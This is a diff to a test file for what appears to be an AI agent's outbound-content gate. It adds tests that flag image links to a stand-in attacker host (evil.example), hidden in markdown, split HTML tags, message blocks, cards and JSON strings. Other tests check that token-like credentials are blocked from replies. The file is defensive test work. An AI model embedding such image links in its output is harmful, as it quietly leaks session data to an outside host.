@@ -1,5 +1,7 @@
 import { autoApprovePolicy } from '../../../runtime/core/cedar/policies';
 import { LOG_ONLY, type Manifest } from '../../../runtime/core/contracts';
+import { canonicalize } from '../../../runtime/core/json/canonicalize';
+import { outboundFindings } from '../../../runtime/core/outbound/check-outbound';
 import { call, GateWorld, MAIL, MANIFEST, manifestOf, NOTE, SESSION, toolManifest } from './gate-world';
 
 const KEY = `${'AK'}IAABCDEFGHIJKLMNOP`;
@@ -61,6 +63,36 @@ test.each([
 ])('a person is asked about %s, even if the tool is auto-approved', async (_, text, policy) => {
   expect(await call(gateWith(), 'send', { text })).toMatchObject({ status: 'pending_approval' });
   expect(world.entries()[0]?.decision).toMatchObject({ code: 'ASK', policyIds: ['all', 'auto-send', policy] });
+});
+
+test.each([
+  ['in the name of a member', { [IMAGE]: 'x' }],
+  ['put together from two texts', { a: '<img title="', b: '" src="https://evil.example/x">' }],
+  ['defined in another text', { a: '![r]', b: '[r]: https://evil.example/?d=1' }],
+  ['a part of a message', { blocks: [{ type: 'image', image_url: 'https://evil.example/?d=1', alt_text: 'x' }] }],
+  ['a part of a card', { card: { type: 'Image', url: 'https://evil.example/?d=1' } }],
+  [
+    'a part in a text of JSON',
+    { blocks: '[{"type":"section","accessory":{"type":"image","image_url":"//evil.example/x"}}]' },
+  ],
+  ['nested too deep to be read', { a: `${'['.repeat(5000)}${']'.repeat(5000)}` }],
+])('an image %s is found', (_, args) => {
+  const findings = outboundFindings(args, canonicalize(args), { taskText: '', directory: new Set() });
+  expect(findings.map(({ kind }) => kind)).toEqual(['activeContent']);
+});
+
+test('an image of a host that the task or the trusted directory names passes', async () => {
+  const args = {
+    blocks: [{ type: 'image', image_url: 'https://img.example.com/a.png' }],
+    text: '![](https://cdn.example.net/?x=1)',
+  };
+  const findings = (taskText: string, ...directory: string[]) =>
+    outboundFindings(args, canonicalize(args), { taskText, directory: new Set(directory) });
+  expect(findings('Post https://img.example.com/a.png', 'cdn.example.net')).toEqual([]);
+  expect(findings('Post it')).toHaveLength(1);
+  const gate = gateWith(undefined, { trustedDirectory: ['evil.example'] });
+  expect(await call(gate, 'send', { text: IMAGE })).toMatchObject({ status: 'succeeded' });
+  expect(await call(gate, 'respond', { text: IMAGE })).toMatchObject({ content: 'Delivered to the user.' });
 });
 
 test('a tool declares what is denied, redacted, asked and allowed', async () => {
@@ -140,7 +172,7 @@ describe('an answer to the user', () => {
   test.each([
     ['a GitHub token', `${'github'}_pat_${'aB3dE5fG7hJ9kL1mN2pQ4r'}_x`],
     ['a Stripe key', `${'sk'}_live_aB3dE5fG7hJ9kL1mN2pQ4r`],
-    ['an AWS secret key', 'wJalrXUtnFEMI/K7MDENG+bPxRfiCY3X9zQkLm2T'],
+    ['an AWS secret key', 'the secret key wJalrXUtnFEMI/K7MDENG+bPxRfiCY3X9zQkLm2T'],
   ])('never has %s', async (_, credential) => {
     expect(await call(world.gate(), 'respond', { text: `It is ${credential}` })).toMatchObject({
       code: 'OUTPUT_BLOCKED',
